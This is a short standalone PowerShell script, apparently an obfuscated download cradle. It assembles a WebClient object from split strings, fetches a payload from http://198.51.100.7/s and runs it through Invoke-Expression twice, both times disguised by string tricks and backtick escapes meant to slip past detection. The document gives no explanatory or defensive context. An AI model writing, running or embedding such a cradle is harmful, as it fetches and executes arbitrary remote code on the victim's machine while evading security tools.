$w = New-Object ('Net.'+'Web'+'Client')
$d = $w.('Down'+'loadStr'+'ing').Invoke('http://198.51.100.7/s')
& ('IQEQX' -replace 'Q','') $d
I`N`V`o`K`e-ExPrEsSiOn $d
